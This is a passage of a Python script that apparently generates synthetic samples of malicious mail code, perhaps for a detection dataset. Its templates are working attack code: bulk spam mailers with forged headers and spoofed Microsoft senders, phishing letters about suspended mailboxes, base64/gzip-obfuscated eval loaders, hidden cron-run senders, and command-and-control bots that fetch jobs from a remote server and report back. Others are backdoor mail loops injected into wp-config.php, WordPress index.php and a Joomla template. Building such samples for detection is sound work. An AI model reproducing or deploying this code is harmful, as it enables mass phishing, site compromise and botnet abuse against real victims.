              "{suspended|closed|deactivated}. {Click|Tap} <a href=\"https://%s/?e=%s\">{here|this link}</a>.</p>\n"
              % (tags[1], tags[0], dom(r), tags[0]))
    files = [F(code, d + "/" + r.choice(("send.php", "go.php", "index.php", "run.php")), "php", "plain"),
             F(letter, d + "/" + ("letters" if "letters" in code else "tpl" if "/tpl/" in code else "html") + "/1.html",
               "html", "kit-file"),
             F("fromname = \"{Microsoft|Office365|Outlook} {Team|Support}\"\nfrommail = \"{no-reply|support}@%s\"\n" % dom(r),
               d + "/" + (r"config.ini" if "config.ini" in code else "settings.ini" if "settings.ini" in code else ".cfg"),
               "text", "kit-file")]
    if v >= 2:
        files.append(F("{Important|Urgent}: {your|the} mailbox %s\n{Action|Attention} required\n" % tags[0],
                       d + "/" + ("subjects.txt" if "subjects.txt" in code else "subj.lst"), "text", "kit-file"))
    return files


# 13 header rotation and forging
def header_forging(r, v):
    xm = r.choice(("Microsoft Outlook 16.0", "Apple Mail (2.3654)", "iPhone Mail (20B101)", "Thunderbird 115"))
    if v == 0:
        code = T("""<?php
$agents = array('Microsoft Outlook 16.0', 'Apple Mail (2.3654)', 'Foxmail 7.2', 'Zimbra 8.8');
$froms = file(__DIR__ . '/from.txt', FILE_IGNORE_NEW_LINES);
foreach (file($_POST['lst'] ?? 'ml.txt', FILE_IGNORE_NEW_LINES) as $k => $rc) {
    $f = $froms[$k % count($froms)];
    $h = array(
        'From' => '=?UTF-8?B?' . base64_encode('@FN@') . '?= <' . $f . '>',
        'Return-Path' => '<bounce-' . mt_rand() . '@@D@>',
        'Message-ID' => '<' . sprintf('%08x.%04x', mt_rand(), mt_rand(0, 65535)) . '@' . explode('@', $f)[1] . '>',
        'X-Mailer' => $agents[array_rand($agents)],
        'X-Originating-IP' => '[@IP@]',
        'List-Unsubscribe' => '<mailto:unsub@@D@>',
        'Content-Type' => 'text/html; charset=UTF-8',
    );
    mail($rc, '=?UTF-8?B?' . base64_encode($_POST['subject']) . '?=', $_POST['html'], $h);
}
""", FN=r.choice(FROMN), D=dom(r), IP=ip(r))
    elif v == 1:
        code = T("""<?php
function rndname() { $a = array('James', 'Mary', 'Robert', 'Linda', 'David'); $b = array('Smith', 'Brown', 'Lee', 'Wilson'); return $a[array_rand($a)] . ' ' . $b[array_rand($b)]; }
function rnduser() { return substr(str_shuffle('abcdefghijklmnopqrstuvwxyz'), 0, mt_rand(5, 9)); }
$domains = array('@D1@', '@D2@', '@D3@');
$to = $_GET['to'];
$from = rnduser() . '@' . $domains[array_rand($domains)];
$hd  = "From: " . rndname() . " <$from>\\r\\n";
$hd .= "Sender: $from\\r\\nX-Sender: $from\\r\\nX-Mailer: @XM@\\r\\nX-Priority: " . mt_rand(1, 3) . "\\r\\n";
$hd .= "Date: " . date('D, d M Y H:i:s O', time() - mt_rand(0, 600)) . "\\r\\n";
$hd .= "MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=ISO-8859-1\\r\\n";
ini_set('sendmail_from', $from);
echo mail($to, $_GET['s'], base64_decode($_GET['b']), $hd, "-f$from") ? 'OK' : 'NO';
""", D1=dom(r), D2=dom(r), D3="mail." + dom(r), XM=xm)
    elif v == 2:
        code = T("""<?php
$s = $_POST;
$hdr = sprintf("From: %s <%s>\\nReply-To: %s\\nX-Mailer: %s\\nX-MSMail-Priority: High\\nX-MimeOLE: Produced By Microsoft MimeOLE\\nContent-Type: text/html\\n",
    $s['fname'], $s['fmail'], $s['reply'] ?: $s['fmail'], '@XM@');
$hdr .= 'Received: from ' . $s['helo'] . ' ([@IP@]) by ' . $s['helo'] . " with ESMTP id " . strtoupper(dechex(mt_rand())) . "\\n";
foreach (explode(',', $s['to']) as $t) { mail(trim($t), $s['subj'], $s['msg'], $hdr); }
""", XM=xm, IP=ip(r))
    else:
        code = T("""<?php
$r = array_map('trim', explode("\\n", $_POST['emails']));
$sub = $_POST['subject'];
foreach ($r as $i => $addr) {
    $tag = strtoupper(substr(sha1($addr . $i), 0, 6));
    $subject = '=?utf-8?Q?' . quoted_printable_encode($sub . ' #' . $tag) . '?=';
    $headers = implode("\\r\\n", array(
        'From: "' . $_POST['name'] . '" <' . $_POST['from'] . '>',
        'Bcc: ' . $_POST['bcc'],
        'X-Mailer: @XM@',
        'X-AntiAbuse: ' . md5($addr),
        'Content-Type: text/plain; charset=utf-8',
    ));
    mail($addr, $subject, str_replace('[TAG]', $tag, $_POST['text']), $headers);
}
""", XM=xm)
    files = [F(code, webrel(r), "php", "plain")]
    if v == 0:
        files.append(F("".join("%s@%s\n" % (rw(r, 6), dom(r)) for _ in range(5)), files[0][1].rsplit("/", 1)[0] + "/from.txt",
                       "text", "list"))
    return files


# 14 throttled batches, offset in GET, resumed by the page's JS
def throttled_js_resume(r, v):
    p = r.choice(("start", "offset", "from", "pos", "i"))
    slp = r.choice(("sleep(%d);" % r.randint(1, 5), "usleep(%d);" % r.randint(200000, 900000),
                    "time_nanosleep(0, 500000000);"))
    js = r.choice(("""setTimeout(function(){ location.href = '?@P@=' + next + '&k=' + k; }, 2000);""",
                   """fetch('?@P@=' + next + '&k=' + k).then(function(r){ return r.text(); }).then(function(t){ document.getElementById('log').innerHTML += t; });""",
                   """var x = new XMLHttpRequest(); x.open('GET', '?@P@=' + next + '&k=' + k); x.onload = function(){ document.body.insertAdjacentHTML('beforeend', x.responseText); }; x.send();"""))
    lstsrc = ("file(__DIR__ . '/.emails', FILE_IGNORE_NEW_LINES)" if v != 2 else
              "unserialize(file_get_contents(sys_get_temp_dir() . '/sess_' . $k))")
    code = T("""<?php
$k = preg_replace('/\\W/', '', $_GET['k'] ?? '');
$all = @LST@;
$per = @PER@;
$off = (int) ($_GET['@P@'] ?? 0);
$cfg = json_decode(file_get_contents(__DIR__ . '/.cfg.json'), true);
foreach (array_slice($all, $off, $per) as $j => $to) {
    $ok = mail($to, $cfg['subject'], str_replace('[-email-]', $to, $cfg['body']), $cfg['headers']);
    echo ($off + $j) . ' ' . ($ok ? 'sent' : 'fail') . ' ' . $to . '<br>';
    @SLP@
}
$next = $off + $per;
if ($next < count($all)) {
    echo "<script>var next = $next, k = '$k'; @JS@</script>";
} else {
    echo '<b>ALL DONE</b>';
}
""", LST=lstsrc, PER=r.choice((10, 20, 25, 50)), P=p, SLP=slp, JS=T(js, P=p))
    rel = webrel(r)
    files = [F(code, rel, "php", "plain")]
    if v == 1:
        files.append(F('{"subject":"%s","body":"<p>[-email-]</p>","headers":"From: %s <no-reply@%s>\\r\\nContent-Type: text/html"}\n'
                       % (subj(r), r.choice(FROMN), dom(r)), rel.rsplit("/", 1)[0] + "/.cfg.json", "json", "kit-file"))
    if v == 3:
        code2 = code.replace("<?php\n", "<?php\n@ini_set('max_execution_time', 0);\n", 1)
        return [F(crlf(code2), rel, "php", "crlf")]
    return files


# 15 obfuscated mailer: the body and/or list in layers
def obfuscated_mailer(r, v):
    inner = T("""$l=explode("\\n",$_POST['@L@']);foreach($l as $e){$e=trim($e);if($e)echo $e.(mail($e,$_POST['s'],$_POST['m'],"From: ".$_POST['f']."\\r\\nContent-type: text/html\\r\\n")?" ok":" no")."<br>";}""",
              L=rw(r, 2))
    if v == 0:
        code = "<?php\n$%s = '%s';\neval(gzinflate(base64_decode($%s)));\n" % ((lambda n: (n, gzb64(inner), n))(rw(r, 5)))
    elif v == 1:
        code = "<?php\n$c = str_rot13('%s');\neval(base64_decode($c));\n" % rot13(b64(inner))
    elif v == 2:
        import zlib
        packed = b64(zlib.compress(inner.encode(), 9))[::-1]
        code = "<?php\n/* cache */ $_x = '%s';\neval(gzuncompress(base64_decode(strrev($_x))));\n" % packed
    else:
        lst = b64("\n".join("%s@%s" % (rw(r, 6), dom(r)) for _ in range(12)))
        body = b64(letter_html(r))
        code = T("""<?php
$a = array_filter(explode("\\n", base64_decode('@LST@')));
$b = base64_decode('@BODY@');
$f = 'm' . 'a' . 'i' . 'l';
foreach ($a as $t) { $f($t, base64_decode('@S@'), str_replace('[-email-]', $t, $b), "Content-Type: text/html\\r\\nFrom: @FN@ <info@@D@>"); }
""", LST=lst, BODY=body, S=b64(subj(r)), FN=r.choice(FROMN), D=dom(r))
    return [F(code, webrel(r), "php", r.choice(("plain", "uploads")))]


# 16 Perl Net::SMTP / MIME::Lite / raw socket
def perl_smtp(r, v):
    lst = r.choice(("list.txt", "mails", ".db", "lst"))
    if v == 0:
        code = T("""use strict;
use warnings;
use Net::SMTP;
my ($list, $subject, $letter) = @ARGV;
my $user = '@U@';
open(my $fh, '<', $list) or die "list: $!";
my $html = do { local $/; open(my $t, '<', $letter) or die; <$t> };
while (my $to = <$fh>) {
    chomp $to;
    next unless $to =~ /\\@/;
    my $smtp = Net::SMTP->new('@H@', Port => 587, Timeout => 20, Hello => '@D@') or next;
    $smtp->starttls() if $smtp->can('starttls');
    $smtp->auth('@U@', '@P@');
    $smtp->mail('@U@');
    $smtp->to($to);
    $smtp->data();
    $smtp->datasend("From: @FN@ <$user>\\nTo: $to\\nSubject: $subject\\nContent-Type: text/html\\n\\n");
    (my $b = $html) =~ s/\\[-email-\\]/$to/g;
    $smtp->datasend($b);
    $smtp->dataend();
    $smtp->quit;
    print "sent $to\\n";
    select(undef, undef, undef, 0.3);
}
""", H="smtp." + dom(r), D=dom(r), U="%s@%s" % (rw(r, 5), dom(r)), P=rw(r, 9), FN=r.choice(FROMN))
    elif v == 1:
        code = T("""use strict;
my $ok = eval { require MIME::Lite; 1 };
die "no MIME::Lite\\n" unless $ok;
my @to = do { open my $f, '<', '@L@' or die; map { chomp; $_ } <$f> };
my $n = 0;
for my $rc (@to) {
    my $msg = MIME::Lite->new(From => '"@FN@" <billing@@D@>', To => $rc, Subject => '@S@', Type => 'multipart/mixed');
    $msg->attach(Type => 'text/html', Data => "<p>Dear $rc, see the attached statement.</p>");
    $msg->attach(Type => 'application/octet-stream', Path => 'Statement.html', Filename => 'Statement.html', Disposition => 'attachment');
    $msg->send('smtp', '@H@', AuthUser => '@U@', AuthPass => '@P@', Timeout => 30) and $n++;
    sleep 1 unless $n % 40;
}
print "$n\\n";
""", L=lst, FN=r.choice(FROMN), D=dom(r), S=subj(r), H="smtp." + dom(r), U=rw(r, 6), P=rw(r, 8))
    else:
        code = T("""use IO::Socket::INET;
my $mx = shift || '@H@';
open(L, "<@L@") || die;
my @r = <L>;
close L;
my $s = IO::Socket::INET->new(PeerAddr => $mx, PeerPort => 25, Proto => 'tcp', Timeout => 15) or die "conn\\n";
sub say_ { my $c = shift; print $s "$c\\r\\n"; my $a = <$s>; return $a; }
<$s>;
say_("HELO @D@");
foreach my $rc (@r) {
    $rc =~ s/\\s+//g;
    say_("MAIL FROM:<@FR@\\@@D@>");
    say_("RCPT TO:<$rc>");
    say_("DATA");
    print $s "From: @FN@ <@FR@\\@@D@>\\r\\nTo: $rc\\r\\nSubject: @S@\\r\\n\\r\\nYour account needs attention: http://@D@/u?$rc\\r\\n";
    say_(".");
    say_("RSET");
}
say_("QUIT");
""", H="mx." + dom(r), L=lst, D=dom(r), FR=r.choice(("alert", "service", "info")), FN=r.choice(FROMN), S=subj(r))
    return [script(r, "perl", code)]


# 17 Perl/CGI through the sendmail binary
def perl_sendmail_pipe(r, v):
    sm = r.choice(("/usr/sbin/sendmail -t", "/usr/sbin/sendmail -t -i", "/usr/lib/sendmail -oi -t", "/usr/sbin/exim -t"))
    if v == 0:
        code = T("""use CGI;
my $q = CGI->new;
print $q->header('text/html');
my @list = split /[\\r\\n]+/, $q->param('emails');
my $n = 0;
foreach my $to (@list) {
    open(MAIL, "|@SM@") || die "pipe: $!";
    print MAIL "To: $to\\n";
    print MAIL "From: " . $q->param('from') . "\\n";
    print MAIL "Subject: " . $q->param('subject') . "\\n";
    print MAIL "Content-Type: text/html\\n\\n";
    print MAIL $q->param('body');
    close(MAIL);
    $n++;
    print "$n: $to<br>\\n";
}
""", SM=sm)
        return [F("#!/usr/bin/perl\n" + code, docroot(r) + "/cgi-bin/" + r.choice(("fm.cgi", "index.cgi", "post.pl", "contact2.cgi")),
                  "perl", "cgi-bin")]
    if v == 1:
        code = T("""my ($from, $subj, $file) = ('@FR@', '@S@', '/tmp/.@X@');
open my $lst, '<', $file or die;
while (<$lst>) {
    chomp;
    my $pid = open(my $sm, '|-', '@SM@');
    next unless $pid;
    printf $sm "From: %s\\nTo: %s\\nSubject: %s\\nMIME-Version: 1.0\\nContent-Type: text/html\\n\\n%s\\n", $from, $_, $subj,
        "<a href='http://@D@/?r=$_'>View document</a>";
    close $sm;
}
unlink $file;
""", FR="%s <no-reply@%s>" % (r.choice(FROMN), dom(r)), S=subj(r), X=hx(r, 5), SM=sm, D=dom(r))
        return [script(r, "perl", code)]
    code = T("""#!/usr/bin/perl
$|=1;
read(STDIN, $buf, $ENV{'CONTENT_LENGTH'});
foreach (split(/&/, $buf)) { ($k, $v) = split(/=/); $v =~ tr/+/ /; $v =~ s/%([a-fA-F0-9]{2})/pack("C", hex($1))/eg; $F{$k} = $v; }
print "Content-type: text/plain\\n\\n";
foreach $rc (split(/,/, $F{'to'})) {
    open(SM, "|@SM@ -f$F{'from'}");
    print SM "From: $F{'name'} <$F{'from'}>\\nTo: $rc\\nSubject: $F{'subject'}\\n\\n$F{'message'}\\n";
    close SM;
    print "ok $rc\\n";
}
""", SM=sm.split(" -t")[0] + " -t")
    return [F(code, docroot(r) + "/cgi-bin/" + r.choice(("mail.cgi", "a.cgi", "form2.pl", "x.cgi")), "perl", "cgi-bin")]


# 18 Python smtplib: threads, pools, email.mime, asyncio
def python_smtplib(r, v):
    h, u, p = "smtp." + dom(r), "%s@%s" % (rw(r, 5), dom(r)), rw(r, 10)
    if v == 0:
        code = T("""import smtplib, threading, queue, sys
from email.mime.text import MIMEText
from email.mime.multipart import MIMEMultipart

Q = queue.Queue()
for line in open(sys.argv[1]):
    if '@' in line:
        Q.put(line.strip())
HTML = open(sys.argv[2]).read()

def worker():
    s = smtplib.SMTP('@H@', 587, timeout=30)
    s.starttls()
    s.login('@U@', '@P@')
    while not Q.empty():
        to = Q.get()
        m = MIMEMultipart('alternative')
        m['From'] = '@FN@ <@U@>'
        m['To'] = to
        m['Subject'] = '@S@'
        m.attach(MIMEText(HTML.replace('[-email-]', to), 'html'))
        try:
            s.sendmail('@U@', [to], m.as_string())
            print('[+]', to)
        except Exception as e:
            print('[-]', to, e)
    s.quit()

for _ in range(@N@):
    threading.Thread(target=worker, daemon=False).start()
""", H=h, U=u, P=p, FN=r.choice(FROMN), S=subj(r), N=r.choice((5, 10, 20)))
    elif v == 1:
        code = T("""import smtplib, ssl, csv, random, time
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage

ACCOUNTS = [l.strip().split('|') for l in open('smtps.txt') if l.strip()]
SUBJECTS = ['@S@', 'Re: @S@', 'Fwd: @S@']

def send(row):
    host, port, user, pwd = random.choice(ACCOUNTS)
    msg = EmailMessage()
    msg['From'] = f'@FN@ <{user}>'
    msg['To'] = row['email']
    msg['Subject'] = random.choice(SUBJECTS)
    msg.set_content('Hello ' + row.get('name', ''))
    msg.add_alternative(open('letter.html').read().replace('##name##', row.get('name', '')), subtype='html')
    with smtplib.SMTP_SSL(host, int(port), context=ssl.create_default_context()) as s:
        s.login(user, pwd)
        s.send_message(msg)
    time.sleep(random.uniform(0.5, 2))
    return row['email']

with ThreadPoolExecutor(max_workers=@N@) as ex:
    for done in ex.map(send, csv.DictReader(open('leads.csv'))):
        print('ok', done, flush=True)
""", S=subj(r), FN=r.choice(FROMN), N=r.choice((8, 16, 32)))
    elif v == 2:
        code = T("""import asyncio, smtplib, sys
from email.mime.text import MIMEText

RCPT = [x.strip() for x in open(sys.argv[1]) if x.strip()]
BODY = open(sys.argv[2]).read()
SEM = asyncio.Semaphore(@N@)

def blocking_send(to):
    m = MIMEText(BODY.replace('{email}', to), 'html')
    m['Subject'], m['From'], m['To'] = '@S@', '@U@', to
    with smtplib.SMTP('@H@', 25) as s:
        s.ehlo('@D@')
        s.sendmail('@U@', to, m.as_string())

async def one(to):
    async with SEM:
        loop = asyncio.get_running_loop()
        try:
            await loop.run_in_executor(None, blocking_send, to)
            print('sent', to)
        except Exception as exc:
            print('fail', to, exc)

async def main():
    await asyncio.gather(*(one(t) for t in RCPT))

asyncio.run(main())
""", N=r.choice((10, 50, 100)), S=subj(r), U=u, H=h, D=dom(r))
    else:
        code = T("""import smtplib, time, os, json, urllib.request
cfg = json.load(open(os.path.expanduser('~/.cache/.@X@.json')))
srv = smtplib.SMTP(cfg['host'], cfg.get('port', 587))
srv.starttls(); srv.login(cfg['user'], cfg['pass'])
sent = 0
for to in urllib.request.urlopen(cfg['list_url']).read().decode().split():
    hdr = 'From: %s\\r\\nTo: %s\\r\\nSubject: %s\\r\\nContent-Type: text/html\\r\\n\\r\\n' % (cfg['from'], to, cfg['subject'])
    srv.sendmail(cfg['user'], to, hdr + cfg['html'].replace('[-email-]', to))
    sent += 1
    if sent % cfg.get('per', 30) == 0:
        srv.quit(); time.sleep(cfg.get('pause', 60))
        srv = smtplib.SMTP(cfg['host'], cfg.get('port', 587)); srv.starttls(); srv.login(cfg['user'], cfg['pass'])
print(sent)
""", X=hx(r, 6))
    files = [script(r, "python", code)]
    if v == 1:
        d = files[0][1].rsplit("/", 1)[0] if "/" in files[0][1] else ""
        files.append(F("smtp.%s|465|%s@%s|%s\n" % (dom(r), rw(r, 5), dom(r), rw(r, 9)), (d + "/" if d else "") + "smtps.txt", "text", "list"))
    return files


# 19 shell while-read loops over a list
def shell_list_loop(r, v):
    lst = r.choice(("list.txt", ".l", "emails", "/tmp/.m"))
    subj_ = subj(r)
    if v == 0:
        code = T("""while IFS= read -r addr; do
  [ -z "$addr" ] && continue
  sed "s/\\[-email-\\]/$addr/g" letter.html | mail -a "Content-Type: text/html" -a "From: @FN@ <info@@D@>" -s "@S@" "$addr"
  echo "sent $addr"
  sleep 0.$((RANDOM % 9))
done < @L@
""", FN=r.choice(FROMN), D=dom(r), S=subj_, L=lst)
    elif v == 1:
        code = T("""LIST=${1:-@L@}
cat "$LIST" | while read to; do
  {
    echo "From: @FN@ <no-reply@@D@>"
    echo "To: $to"
    echo "Subject: @S@"
    echo "MIME-Version: 1.0"
    echo "Content-Type: text/html"
    echo
    cat body.html
  } | /usr/sbin/sendmail -t -f no-reply@@D@ && echo "$to ok" >> .log
done
""", L=lst, FN=r.choice(FROMN), D=dom(r), S=subj_)
    elif v == 2:
        code = T("""SRV=smtp.@D@:587
for to in $(cat @L@); do
  swaks --to "$to" --from "@U@" --server "$SRV" --auth LOGIN --auth-user "@U@" --auth-password '@P@' -tls \\
    --header "Subject: @S@" --header "X-Mailer: Microsoft Outlook 16.0" --body @./letter.html --h-Content-Type text/html >/dev/null 2>&1 \\
    && echo "+ $to" || echo "- $to"
done
""", D=dom(r), L=lst, U="%s@%s" % (rw(r, 5), dom(r)), P=rw(r, 9), S=subj_)
    else:
        code = T("""n=0
while read -r rcpt; do
  printf 'From: %s\\r\\nTo: %s\\r\\nSubject: %s\\r\\n\\r\\n%s\\r\\n' "@FN@ <@U@>" "$rcpt" "@S@" "$(cat m.txt)" > /tmp/.msg$$
  curl -s --ssl-reqd --url "smtps://smtp.@D@:465" --user "@U@:@P@" --mail-from "@U@" --mail-rcpt "$rcpt" --upload-file /tmp/.msg$$ && n=$((n+1))
  [ $((n % 20)) -eq 0 ] && sleep 10
done < @L@
rm -f /tmp/.msg$$
echo "$n sent"
""", FN=r.choice(FROMN), U="%s@%s" % (rw(r, 5), dom(r)), S=subj_, D=dom(r), P=rw(r, 8), L=lst)
    if v == 1 and r.random() < 0.5:
        code = code.replace("| /usr/sbin/sendmail -t", "| mutt -H - ")
    return [script(r, "sh", code)]


# 20 Node nodemailer pool / net socket
def node_mailer(r, v):
    if v == 0:
        code = T("""const nodemailer = require('nodemailer');
const fs = require('fs');
const list = fs.readFileSync(process.argv[2] || 'list.txt', 'utf8').split(/\\r?\\n/).filter(Boolean);
const html = fs.readFileSync('letter.html', 'utf8');
const t = nodemailer.createTransport({ pool: true, maxConnections: 10, maxMessages: Infinity, rateLimit: 20,
  host: 'smtp.@D@', port: 587, secure: false, auth: { user: '@U@', pass: '@P@' }, tls: { rejectUnauthorized: false } });
let sent = 0;
for (const to of list) {
  t.sendMail({ from: '"@FN@" <@U@>', to, subject: '@S@', html: html.replace(/\\[-email-\\]/g, to),
    headers: { 'X-Mailer': 'Microsoft Outlook 16.0' } })
    .then(() => console.log(++sent, to)).catch(e => console.log('ERR', to, e.message));
}
""", D=dom(r), U="%s@%s" % (rw(r, 5), dom(r)), P=rw(r, 9), FN=r.choice(FROMN), S=subj(r))
    elif v == 1:
        code = T("""const net = require('net');
const rcpts = require('fs').readFileSync('/tmp/.@X@', 'utf8').trim().split('\\n');
function one(to) {
  return new Promise((res) => {
    const steps = ['HELO @D@', 'MAIL FROM:<info@@D@>', `RCPT TO:<${to}>`, 'DATA',
      `From: @FN@ <info@@D@>\\r\\nTo: ${to}\\r\\nSubject: @S@\\r\\n\\r\\nPlease review: http://@D@/d?u=${to}\\r\\n.`, 'QUIT'];
    const s = net.connect(25, '@MX@');
    s.on('data', () => { const c = steps.shift(); if (c) s.write(c + '\\r\\n'); else s.end(); });
    s.on('close', res); s.on('error', res);
  });
}
(async () => { for (const r of rcpts) { await one(r); } })();
""", X=hx(r, 6), D=dom(r), FN=r.choice(FROMN), S=subj(r), MX="mx." + dom(r))
    else:
        code = T("""const express = require('express');
const nodemailer = require('nodemailer');
const app = express();
app.use(express.json({ limit: '20mb' }));
app.post('/@R@', async (req, res) => {
  if (req.get('x-token') !== '@K@') return res.sendStatus(404);
  const { smtp, from, subject, html, to } = req.body;
  const tr = nodemailer.createTransport(smtp);
  const out = [];
  for (const r of to) {
    try { await tr.sendMail({ from, to: r, subject, html }); out.push([r, 1]); } catch (e) { out.push([r, 0]); }
  }
  res.json(out);
});
app.listen(process.env.PORT || @PORT@);
""", R=rw(r, 4), K=hx(r, 24), PORT=r.choice((3000, 8081, 3131)))
    return [script(r, "js", code)]


# 21 cron-driven sender: a crontab line and its script
def cron_sender(r, v):
    lang = ("php", "python", "sh", "perl")[v % 4]
    home = "home/" + rw(r, 6)
    d = r.choice((".cache/.x", ".local/share/." + rw(r, 4), "tmp/." + hx(r, 4), "public_html/wp-includes/" + rw(r, 4)))
    ext = {"php": "php", "python": "py", "sh": "sh", "perl": "pl"}[lang]
    name = r.choice(("q", "sync", "job", "worker")) + "." + ext
    if lang == "php":
        code = """<?php
$st = __DIR__ . '/.state';
$pos = is_file($st) ? (int) file_get_contents($st) : 0;
$all = file(__DIR__ . '/.rcpt', FILE_IGNORE_NEW_LINES);
$cfg = include __DIR__ . '/.conf.php';
foreach (array_slice($all, $pos, 200) as $to) {
    mail($to, $cfg['s'], str_replace('%e', $to, $cfg['b']), $cfg['h']);
}
file_put_contents($st, $pos + 200);
if ($pos + 200 >= count($all)) { unlink($st); }
"""
        run = "/usr/local/bin/php -q"
    elif lang == "python":
        code = """import smtplib, os, json
base = os.path.dirname(os.path.abspath(__file__))
st = os.path.join(base, '.off')
off = int(open(st).read()) if os.path.exists(st) else 0
cfg = json.load(open(os.path.join(base, '.c')))
rc = open(os.path.join(base, '.rcpt')).read().split()
s = smtplib.SMTP(cfg['h'], 587); s.starttls(); s.login(cfg['u'], cfg['p'])
for to in rc[off:off + 150]:
    s.sendmail(cfg['u'], to, 'From: %s\\r\\nTo: %s\\r\\nSubject: %s\\r\\n\\r\\n%s' % (cfg['f'], to, cfg['s'], cfg['b']))
open(st, 'w').write(str(off + 150))
"""
        run = "/usr/bin/python3"
    elif lang == "sh":
        code = """cd "$(dirname "$0")"
o=$(cat .off 2>/dev/null || echo 0)
tail -n +$((o + 1)) .rcpt | head -n 100 | while read e; do
  sed "s/%e/$e/" .tpl | /usr/sbin/sendmail -t -f "$(head -1 .from)" "$e"
done
echo $((o + 100)) > .off
"""
        run = "/bin/sh"
    else:
        code = """my $dir = $0; $dir =~ s{/[^/]+$}{};
open my $o, '<', "$dir/.off"; my $off = <$o> || 0; close $o;
open my $l, '<', "$dir/.rcpt" or die; my @all = <$l>; close $l;
for my $to (@all[$off .. ($off + 99 < $#all ? $off + 99 : $#all)]) {
    chomp $to;
    open(my $m, '|-', '/usr/sbin/sendmail', '-t') or next;
    print $m "To: $to\\nFrom: support\\@" . `hostname -f` . "Subject: Notice\\n\\nhttp://update.example.com/n?$to\\n";
    close $m;
}
open $o, '>', "$dir/.off"; print $o $off + 100; close $o;
"""
        run = "/usr/bin/perl"
    cmin = r.choice(("*/5", "*/10", "*/2", "17"))
    cron = "%s * * * * %s $HOME/%s/%s >/dev/null 2>&1\n" % (cmin, run, d, name)
    if v % 2:
        cron = "MAILTO=\"\"\nSHELL=/bin/sh\n" + cron
    return [F(code if lang != "python" else "#!/usr/bin/env python3\n" + code, "%s/%s/%s" % (home, d, name), lang, "script"),
            F(cron, "var/spool/cron/crontabs/" + rw(r, 6), "crontab", "crontab")]


# 22 remote C2: get a job, send it, report back
def c2_job_sender(r, v):
    c2 = "https://%s/%s" % (dom(r), r.choice(("api/v2/task", "gate.php", "j", "panel/next")))
    if v == 0:
        code = T("""<?php
ignore_user_abort(true); set_time_limit(0);
$id = md5(__FILE__ . php_uname());
while (true) {
    $job = json_decode(@file_get_contents('@C2@?bot=' . $id . '&host=' . urlencode($_SERVER['HTTP_HOST'] ?? gethostname())), true);
    if (!$job || empty($job['to'])) { sleep(60); continue; }
    $ok = 0; $bad = array();
    foreach ($job['to'] as $t) {
        if (mail($t, $job['subject'], $job['body'], $job['headers'])) { $ok++; } else { $bad[] = $t; }
    }
    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => 'Content-Type: application/json',
        'content' => json_encode(array('bot' => $id, 'job' => $job['id'], 'ok' => $ok, 'bad' => $bad)))));
    @file_get_contents('@C2@/report', false, $ctx);
    if (!empty($job['once'])) break;
}
""", C2=c2)
        return [F(code, webrel(r), "php", "plain")]
    if v == 1:
        code = T("""import json, smtplib, time, uuid, urllib.request
C2 = '@C2@'
ME = str(uuid.getnode())
while True:
    try:
        job = json.load(urllib.request.urlopen(C2 + '?id=' + ME, timeout=30))
    except Exception:
        time.sleep(120); continue
    s = smtplib.SMTP(job['smtp']['host'], job['smtp']['port'])
    s.starttls(); s.login(job['smtp']['user'], job['smtp']['pass'])
    res = {}
    for to in job['rcpt']:
        try:
            s.sendmail(job['from'], to, job['raw'].replace('{{to}}', to)); res[to] = 'ok'
        except smtplib.SMTPException as e:
            res[to] = str(e)
    s.quit()
    req = urllib.request.Request(C2 + '/done', data=json.dumps({'id': ME, 'job': job['id'], 'res': res}).encode(),
                                 headers={'Content-Type': 'application/json'})
    urllib.request.urlopen(req)
    time.sleep(job.get('sleep', 30))
""", C2=c2)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""<?php
// one job per request, called by the panel
$j = json_decode(gzinflate(base64_decode($_POST['j'])), true);
$r = array();
foreach ($j['l'] as $to) { $r[] = (int) mail($to, $j['s'], str_replace('{e}', $to, $j['m']), $j['h']); }
$c = curl_init('@C2@');
curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(array('id' => $j['id'], 'r' => implode('', $r), 'srv' => $_SERVER['SERVER_ADDR'])));
curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
curl_exec($c);
echo 'ok';
""", C2=c2)
        return [F(code, webrel(r), "php", "uploads")]
    code = T("""while :; do
  job=$(curl -fsk "@C2@?h=$(hostname)") || { sleep 300; continue; }
  [ -z "$job" ] && { sleep 300; continue; }
  id=$(echo "$job" | head -1); subj=$(echo "$job" | sed -n 2p)
  echo "$job" | sed -n '3,$p' > /tmp/.j.$$
  n=0
  for to in $(curl -fsk "@C2@/rcpt?id=$id"); do
    mail -s "$subj" "$to" < /tmp/.j.$$ && n=$((n + 1))
  done
  curl -fsk -d "id=$id&n=$n" "@C2@/done" >/dev/null
  rm -f /tmp/.j.$$
done
""", C2=c2)
    return [script(r, "sh", code)]


# 23 mail loop injected into an app file behind a key
def injected_mail_loop(r, v):
    k = rw(r, 5)
    inj = T("""if (isset($_POST['@K@'])) { $q = json_decode(base64_decode($_POST['@K@']), true); foreach ($q['t'] as $x) { @mail($x, $q['s'], $q['b'], $q['h']); } exit('1'); }""", K=k)
    if v == 0:
        code = """<?php
/**
 * The base configuration for WordPress
 */
%s
define( 'DB_NAME', 'wp_%s' );
define( 'DB_USER', 'wp_%s' );
define( 'DB_PASSWORD', '%s' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );
$table_prefix = 'wp_';
define( 'WP_DEBUG', false );
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
""" % (inj, rw(r, 5), rw(r, 5), rw(r, 12))
        return [F(code, docroot(r) + "/wp-config.php", "php", "inject-top")]
    if v == 1:
        code = """<?php
/**
 * Front to the WordPress application.
 */
define( 'WP_USE_THEMES', true );
require __DIR__ . '/wp-blog-header.php';
""" + inj + "\n"
        return [F(code, docroot(r) + "/index.php", "php", "inject-end")]
    if v == 2:
        code = """<?php
defined('_JEXEC') or die;
use Joomla\\CMS\\Factory;
use Joomla\\CMS\\HTML\\HTMLHelper;
$app = Factory::getApplication();
$wa  = $this->getWebAssetManager();
""" + inj + """
$wa->useStyle('template.cassiopeia.' . ($this->direction === 'rtl' ? 'rtl' : 'ltr'));
HTMLHelper::_('bootstrap.collapse');
?>
<!DOCTYPE html>
<html lang="<?php echo $this->language; ?>">
<head><jdoc:include type="metas" /><jdoc:include type="styles" /></head>
<body><jdoc:include type="component" /></body>
</html>
"""
